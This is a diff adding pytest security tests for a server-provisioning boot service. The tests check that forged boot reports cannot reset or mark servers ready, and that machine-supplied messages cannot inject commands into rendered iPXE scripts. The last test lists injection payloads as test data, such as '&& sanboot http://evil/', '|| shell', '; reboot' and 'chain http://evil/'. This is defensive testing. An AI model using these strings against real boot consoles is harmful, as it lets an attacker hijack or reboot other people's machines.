@@ -1,0 +1,102 @@
+"""A neighbour on the boot network says whatever it likes. None of it boots, resets or unmasks anybody's server."""
+
+from __future__ import annotations
+
+import itertools
+from dataclasses import replace
+from datetime import timedelta
+from typing import Any
+
+import pytest
+
+from provisioner.api.server import BootProgress
+from provisioner.api.values import MacAddress
+from provisioner.boot.choose import Wait
+from provisioner.boot.decide import decide
+from provisioner.boot.facts import Facts
+from provisioner.boot.progress import Report, record_report
+from provisioner.boot.render import render_script
+from tests.boot.decide_rows import BOOT, JOINED, NEW, ORDER, OTHER_BOOT, POWERED, READY_ONCE, REFUSED, node, status
+from tests.boot.objects import NOON, image, pool, rack, server
+
+STAGES: tuple[Any, ...] = ("Firmware", "IPXE", "Stage1", "Root", "System", "Token")
+VICTIM = MacAddress("52:54:00:12:34:56")
+
+
+def forged() -> list[Report]:
+    """Everything that can be said about a victim: every stage, by its own kernel and another."""
+    said = itertools.product(STAGES, (BOOT, OTHER_BOOT), (None, "all is lost"))
+    return [
+        Report(mac=VICTIM, stage=stage, boot_id=None if stage in ("Firmware", "IPXE") else boot_id, message=message)
+        for stage, boot_id, message in said
+    ]
+
+
+def facts(**fields: Any) -> Facts:
+    wanted = {"ordered_image": image(), "pool_image": image(), "rack": rack(), "pool": pool(), "node": node(), **fields}
+    return Facts(**wanted)
+
+
+@pytest.mark.parametrize("seconds", [60, 600, 6_000, 600_000])
+@pytest.mark.parametrize("alive", [node(), node(False, lease=0)], ids=["Ready", "Lease"])
+def test_no_report_resets_a_server_whose_node_is_alive(seconds: float, alive: Any) -> None:
+    now = NOON + timedelta(seconds=seconds)
+    if alive.lease_renewed is not None:
+        alive = replace(alive, lease_renewed=now - timedelta(seconds=10))
+    for first, second in itertools.product(forged(), repeat=2):
+        progress: BootProgress | None = None
+        for report in (first, second):
+            progress = record_report(progress, report, ORDER, now) or progress
+        victim = server(status=status(**{**READY_ONCE, "join": REFUSED, "progress": progress}))
+        assert not decide(facts(server=victim, node=alive), now, NEW).orders
+
+
+def test_no_report_makes_a_server_ready_joined_or_booted() -> None:
+    for report in forged():
+        progress = record_report(None, report, ORDER, NOON + timedelta(seconds=5))
+        victim = server(status=status(power=POWERED, progress=progress))
+        decision = decide(facts(server=victim, node=None), NOON + timedelta(seconds=6), NEW)
+        assert {c["status"] for c in decision.status["conditions"]} == {"False"}
+        assert not {"imageRef", "bootID", "nodeRef", "readyTime"} & set(decision.status)
+
+
+def test_a_kernel_id_that_somebody_guessed_is_not_readiness() -> None:
+    """The Node must report the kernel that got the join configuration; what progress says is nothing to it."""
+    progress = record_report(
+        None, Report(mac=VICTIM, stage="Token", boot_id=OTHER_BOOT), ORDER, NOON + timedelta(seconds=5)
+    )
+    victim = server(status=status(power=POWERED, join=JOINED, progress=progress))
+    decision = decide(facts(server=victim, node=node(boot_id=OTHER_BOOT)), NOON + timedelta(seconds=40), NEW)
+    assert "readyTime" not in decision.status
+
+
+def test_reports_cannot_keep_a_hanging_boot_from_being_given_up() -> None:
+    """Somebody says every minute that the boot began anew: the boot as a whole has its time."""
+    progress, now = None, NOON
+    for minute in range(1, 60):
+        now = NOON + timedelta(minutes=minute)
+        report = Report(mac=VICTIM, stage="Firmware" if minute % 2 else "IPXE")
+        progress = record_report(progress, report, ORDER, now) or progress
+        hanging = server(status=status(power=POWERED, progress=progress))
+        if decide(facts(server=hanging, node=None), now, NEW).orders:
+            break
+    else:
+        raise AssertionError("the boot was never given up")
+    assert now - NOON > timedelta(seconds=900)
+
+
+@pytest.mark.parametrize(
+    "words",
+    [
+        "\n#!ipxe\nshell", "x || shell", "x && sanboot http://evil/", "x ; reboot", "${nextserver}", "x \\", "# x",
+        "\x00\x1b[2J", "$${net0/mac}{x}", "a\r\nchain http://evil/",
+    ],
+)  # fmt: skip
+def test_no_word_of_a_machine_becomes_a_command_on_another_ones_console(words: str) -> None:
+    script = render_script(Wait(reason="Unknown", message=words, remedy=words))
+    commands = [line.split()[0] for line in script.splitlines()[2:]]
+    assert set(commands) <= {"echo", "sleep", "exit"}
+    assert "${" not in script
+    assert not any(
+        word in (";", "&&", "||") for line in script.splitlines() if line.startswith("echo") for word in line.split()
+    )
